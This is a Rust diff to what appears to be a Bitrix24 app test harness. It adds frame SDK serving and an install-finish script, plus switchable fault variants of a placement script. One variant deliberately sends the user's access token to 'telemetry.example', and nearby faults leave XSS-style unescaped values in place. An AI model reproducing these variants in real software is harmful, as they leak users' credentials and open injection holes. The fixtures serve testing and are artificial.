@@ -94,6 +94,7 @@ impl Reference {
             .route("/install", post(install))
             .route("/uninstall", post(uninstall))
             .route("/landing-block", any(block_page))
+            .route(FRAME_SDK_PATH, axum::routing::get(frame_sdk))
             .fallback(page)
             .with_state(app);
         // Without TCP_NODELAY a kept-alive client waits ~40 ms per answer on delayed ACKs.
@@ -231,7 +232,10 @@ async fn install(State(app): State<Arc<App>>, uri: Uri, headers: HeaderMap, body
     if let Err(refusal) = session.call("event.bind", &fields).await {
         return html(refusal.status, "Not installed", &format!("<p>{}</p>", escape(&refusal.message)));
     }
-    html(StatusCode::OK, "Installed", "<p>The settings page is bound to the Sites section.</p>")
+    // The installation page (not the event) is open in the user's frame: it tells Bitrix24 the
+    // installation is finished (installation-finish.md: until then no widget is shown).
+    let finish = if get("event").is_none() { install_script(&app) } else { String::new() };
+    html(StatusCode::OK, "Installed", &format!("<p>The settings page is bound to the Sites section.</p>{finish}"))
 }
 
 /// The removal handler: deletes the installation when ONAPPUNINSTALL names it, its member_id and
@@ -453,11 +457,12 @@ async fn render(
     let lang_attribute = if app.has(Fault::ReflectsLang) { lang.to_owned() } else { escape(lang) };
     let lang_script = if app.has(Fault::LangInScript) { format!("'{lang}'") } else { js_string(lang) };
     let content = format!(
-        "<main lang=\"{lang_attribute}\"><h1>{}</h1>{}<p>Opened by {} ({})</p>{back}</main>\n<script>var lang = {lang_script};</script>",
+        "<main lang=\"{lang_attribute}\"><h1>{}</h1>{}<p>Opened by {} ({})</p>{back}</main>\n<script>var lang = {lang_script};</script>{}",
         subject.heading,
         subject.location,
         escape(user_name),
-        escape(lang)
+        escape(lang),
+        placement_script(app)
     );
     if app.has(Fault::RedirectTokenElsewhere) {
         let token: String = form_urlencoded::byte_serialize(auth_id.as_bytes()).collect();
@@ -525,6 +530,64 @@ async fn block(app: &App, session: &mut Session<'_>, options: Option<&PlacementO
         heading: format!("Block {code}"),
         location: format!("<p>{} {} on page {}</p>", escape(name), escape(id), escape(lid)),
     })
+}
+
+/// Where the handler serves @bitrix24/b24jssdk's browser bundle to its frames.
+const FRAME_SDK_PATH: &str = "/assets/b24jssdk-2.1.0.umd.min.js";
+
+/// The pinned bundle (assets/b24jssdk/README.md): served by the handler, never from a CDN.
+const FRAME_SDK: &[u8] = include_bytes!("../../assets/b24jssdk/b24jssdk-2.1.0.umd.min.js");
+
+async fn frame_sdk() -> Response {
+    // The file never changes under its versioned name.
+    let headers = [
+        (header::CONTENT_TYPE, "text/javascript; charset=utf-8"),
+        (header::CACHE_CONTROL, "public, max-age=31536000, immutable"),
+    ];
+    (headers, FRAME_SDK).into_response()
+}
+
+/// The script of the settings page and the block item, written as b24jssdk's docs show (UMD:
+/// `B24Js.initializeB24Frame()` once the DOM is ready, in a try/catch): it reads the placement's
+/// options, calls the portal from the browser, says so in the page and fits the frame to it. It
+/// holds no value of the request: what it shows it reads from the SDK, as text. Each frame fault
+/// changes this script and nothing else.
+fn placement_script(app: &App) -> String {
+    // Registered once the page has loaded, DOMContentLoaded never comes: the SDK never starts.
+    let start = if app.has(Fault::FrameNeverInits) {
+        "window.addEventListener('load', () => document.addEventListener('DOMContentLoaded', boot))"
+    } else {
+        "document.addEventListener('DOMContentLoaded', boot)"
+    };
+    // A line that writes to an element the page does not have.
+    let throws =
+        if app.has(Fault::FrameThrows) { "\ndocument.getElementById('saved').textContent = 'Saved'" } else { "" };
+    // Hidden while the SDK starts, and never shown again.
+    let hide =
+        if app.has(Fault::FrameBlank) { "\n    document.documentElement.style.visibility = 'hidden'" } else { "" };
+    let leak = if app.has(Fault::FrameTokenElsewhere) {
+        "\n    const auth = $b24.auth.getAuthData()\n    if (auth) fetch('http://telemetry.example/collect?auth=' + encodeURIComponent(auth.access_token), { mode: 'no-cors' }).catch(() => {})"
+    } else {
+        ""
+    };
+    // The SDK refreshes a refused token through the portal's page and calls again; a call of
+    // its own with the token of the init data does not.
+    let call = if app.has(Fault::FrameIgnoresRefresh) {
+        "const auth = $b24.auth.getAuthData()\n    await fetch($b24.getTargetOrigin() + '/rest/user.current.json', { method: 'POST', body: new URLSearchParams({ auth: auth ? auth.access_token : '' }) })"
+    } else {
+        "await $b24.actions.v2.call.make({ method: 'user.current', params: {} })"
+    };
+    format!(
+        "\n<script src=\"{FRAME_SDK_PATH}\"></script>\n<script>\nasync function boot() {{\n  try {{{hide}\n    const $b24 = await B24Js.initializeB24Frame(){leak}\n    {call}\n    const shown = document.createElement('p')\n    shown.textContent = 'In the frame: ' + $b24.placement.title + ', options ' + Object.keys($b24.placement.options).join(', ')\n    document.querySelector('main').append(shown)\n    await $b24.parent.fitWindow()\n  }} catch (error) {{\n    console.error(error)\n  }}\n}}\n{start}{throws}\n</script>"
+    )
+}
+
+/// The installation page's script: once the SDK has its init data, the installation is finished.
+fn install_script(app: &App) -> String {
+    let finish = if app.has(Fault::FrameNoInstallFinish) { "" } else { "\n    await $b24.installFinish()" };
+    format!(
+        "\n<script src=\"{FRAME_SDK_PATH}\"></script>\n<script>\ndocument.addEventListener('DOMContentLoaded', async () => {{\n  try {{\n    const $b24 = await B24Js.initializeB24Frame(){finish}\n  }} catch (error) {{\n    console.error(error)\n  }}\n}})\n</script>"
+    )
 }
 
 /// What an uncaught exception looks like from outside.
